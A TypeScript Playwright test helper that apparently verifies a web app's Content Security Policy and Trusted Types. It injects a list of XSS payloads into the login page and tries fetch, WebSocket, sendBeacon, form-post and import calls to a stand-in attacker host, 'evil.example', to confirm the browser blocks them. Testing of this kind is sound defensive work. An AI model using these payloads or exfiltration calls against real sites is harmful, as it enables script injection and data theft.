import type { BrowserContext, Page, Response } from 'playwright-core';
import { urlOf } from './steps.ts';

/** The attacker's server. Nothing may reach it. */
export const evilOrigin = 'https://evil.example';

const poisons = [
  '<script>globalThis.ranInline = 1</script>',
  `<script src="${evilOrigin}/x.js"></script>`,
  `<script type="module">import '${evilOrigin}/module.js'</script>`,
  '<script src="data:text/javascript,globalThis.ranData=1"></script>',
  '<img src="/nothing.png" alt="" onerror="globalThis.ranHandler = 1">',
  '<svg onload="globalThis.ranSvg = 1"></svg>',
  '<a id="poisoned-link" href="javascript:void(globalThis.ranLink = 1)">x</a>',
  `<iframe src="${evilOrigin}/frame"></iframe>`,
  '<iframe srcdoc="<script>parent.ranFrame = 1</script>"></iframe>',
  `<object data="${evilOrigin}/object"></object>`,
  `<link rel="stylesheet" href="${evilOrigin}/style.css">`,
  `<form id="poisoned-form" action="${evilOrigin}/form"><input name="x"></form>`,
];

/** The globals that a poison sets when it runs. */
const traces = [
  'ranInline',
  'ranExternal',
  'ranData',
  'ranHandler',
  'ranSvg',
  'ranLink',
  'ranFrame',
] as const;

/** An attack on the pages of a context, and its results. */
export interface Attack {
  /** The requests that reached the attacker's server. */
  readonly reached: readonly string[];
  /** Opens the app with hostile markup in its document and the headers that were served. */
  readonly openPoisoned: (page: Page) => Promise<Response | null>;
  /** The traces of poison that ran in a page. */
  readonly findTraces: (page: Page) => Promise<readonly string[]>;
  /** The violations that the browser reported: the directive and the address. */
  readonly findViolations: (page: Page) => Promise<readonly string[]>;
}

/** Prepares an attack. The attacker's server answers every request with hostile script. */
export async function attack(context: BrowserContext): Promise<Attack> {
  const reached: string[] = [];
  await context.route(`${evilOrigin}/**`, (route) => {
    reached.push(route.request().url());
    return route.fulfill({
      headers: { 'access-control-allow-origin': '*' },
      contentType: 'text/javascript',
      body: 'globalThis.ranExternal = 1',
    });
  });
  await context.addInitScript(() => {
    const violations: string[] = [];
    Object.defineProperty(globalThis, 'violations', { value: violations });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      violations.push(`${effectiveDirective} ${blockedURI}`),
    );
  });
  return {
    reached,
    async openPoisoned(page) {
      const { origin } = new URL(urlOf('/'));
      await page.route(`${origin}/`, async (route) => {
        const response = await route.fetch();
        const clean = await response.text();
        const body = clean.replace('</body>', `${poisons.join('\n')}</body>`);
        if (body === clean) throw new Error('The document has no place for the poison');
        await route.fulfill({ response, body });
      });
      return page.goto(urlOf('/login'));
    },
    findTraces: (page) =>
      page.evaluate((names) => names.filter((name) => name in globalThis), [...traces]),
    async findViolations(page) {
      const found: unknown = await page.evaluate(() => Reflect.get(globalThis, 'violations'));
      return Array.isArray(found) ? found.map(String) : [];
    },
  };
}

/** Runs the attempts of a script in our page: by name, whether the browser `refused` each or it was `done`. */
export async function tryFromPage(page: Page, evilOrigin: string): Promise<Record<string, string>> {
  return page.evaluate(
    (evilOrigin) =>
      new Promise<Record<string, string>>((resolve) => {
        const mark = 'globalThis.ranExternal = 1';
        const markup = `<img src=x onerror="${mark}">`;
        const blobUrl = URL.createObjectURL(new Blob([mark], { type: 'text/javascript' }));
        const make = document.createElement.bind(document);
        const global = globalThis;
        const given = (name: string): ((...values: unknown[]) => unknown) => {
          const found: unknown = Reflect.get(global, name);
          if (typeof found !== 'function') throw new Error(`There is no ${name}`);
          return (...values) => Reflect.apply(found, undefined, values);
        };
        const made = (name: string, ...values: unknown[]): unknown => {
          const found: unknown = Reflect.get(global, name);
          if (typeof found !== 'function') throw new Error(`There is no ${name}`);
          return Reflect.construct(found, values);
        };
        const makePolicy = (name: string) => {
          const types: unknown = Reflect.get(global, 'trustedTypes');
          if (!(types instanceof Object)) throw new Error('There are no trusted types');
          const create: unknown = Reflect.get(types, 'createPolicy');
          if (typeof create !== 'function') throw new Error('No policy can be made');
          Reflect.apply(create, types, [name, { createHTML: (text: string) => text }]);
        };
        const attempts: Record<string, () => unknown> = {
          innerHTML: () => {
            make('div').innerHTML = markup;
          },
          outerHTML: () => {
            const inner = make('div');
            make('div').append(inner);
            inner.outerHTML = markup;
          },
          insertAdjacentHTML: () => make('div').insertAdjacentHTML('beforeend', markup),
          'document.write': () => document.write(markup),
          DOMParser: () => new DOMParser().parseFromString(markup, 'text/html'),
          createContextualFragment: () => new Range().createContextualFragment(markup),
          srcdoc: () => {
            make('iframe').srcdoc = markup;
          },
          'an event handler attribute': () => make('div').setAttribute('onclick', mark),
          'script.src': () => {
            make('script').src = '/assets/x.js';
          },
          'script.text': () => {
            make('script').text = mark;
          },
          'script.textContent': () => {
            make('script').textContent = mark;
          },
          eval: () => given('eval')(mark),
          'new Function': () => made('Function', mark),
          'setTimeout of a string': () => given('setTimeout')(mark),
          'new Worker of a blob': () => new Worker(blobUrl),
          'new Worker of our own file': () => new Worker('/assets/x.js'),
          'new SharedWorker': () => new SharedWorker(blobUrl),
          'a service worker': () => navigator.serviceWorker.register('/x.js'),
          'a policy of its own': () => makePolicy('evil'),
          'the policy of ours again': () => makePolicy('polytips'),
          'import of a blob': () => import(blobUrl),
          'import from afar': () => import(`${evilOrigin}/module.js`),
          fetch: () => fetch(`${evilOrigin}/fetch`),
          XMLHttpRequest: () =>
            new Promise((resolve, reject) => {
              const request = new XMLHttpRequest();
              request.addEventListener('load', resolve);
              request.addEventListener('error', () => reject(new Error('refused')));
              request.open('GET', `${evilOrigin}/xhr`);
              request.send();
            }),
          WebSocket: () =>
            new Promise((resolve, reject) => {
              const socket = new WebSocket(`${evilOrigin.replace('https', 'wss')}/socket`);
              socket.addEventListener('open', resolve);
              socket.addEventListener('error', () => reject(new Error('refused')));
            }),
          EventSource: () =>
            new Promise((resolve, reject) => {
              const source = new EventSource(`${evilOrigin}/events`);
              source.addEventListener('open', resolve);
              source.addEventListener('error', () => reject(new Error('refused')));
            }),
          'an image': () =>
            new Promise((resolve, reject) => {
              const image = new Image();
              image.addEventListener('load', resolve);
              image.addEventListener('error', () => reject(new Error('refused')));
              image.src = `${evilOrigin}/image.png`;
            }),
          'a script that was parsed': () =>
            new Promise((resolve, reject) => {
              const inserted = make('script');
              inserted.addEventListener('load', resolve);
              inserted.addEventListener('error', () => reject(new Error('refused')));
              inserted.setAttribute('src', `${evilOrigin}/x.js`);
              document.body.append(inserted);
            }),
        };
        // In a timer: the debugger lets code that it calls itself make code from strings.
        setTimeout(() => {
          const tried = Object.entries(attempts).map(async ([name, attempt]) => {
            try {
              await attempt();
              return [name, 'done'] as const;
            } catch {
              return [name, 'refused'] as const;
            }
          });
          // These do not report a refusal: the attacker's server shows it.
          navigator.sendBeacon(`${evilOrigin}/beacon`, 'x');
          const form = document.createElement('form');
          form.action = `${evilOrigin}/form`;
          form.method = 'post';
          form.target = '_self';
          document.body.append(form);
          form.submit();
          const link = document.createElement('link');
          link.rel = 'prefetch';
          link.href = `${evilOrigin}/prefetch`;
          document.head.append(link);
          void Promise.all(tried).then((results) => resolve(Object.fromEntries(results)));
        }, 0);
      }),
    evilOrigin,
  );
}
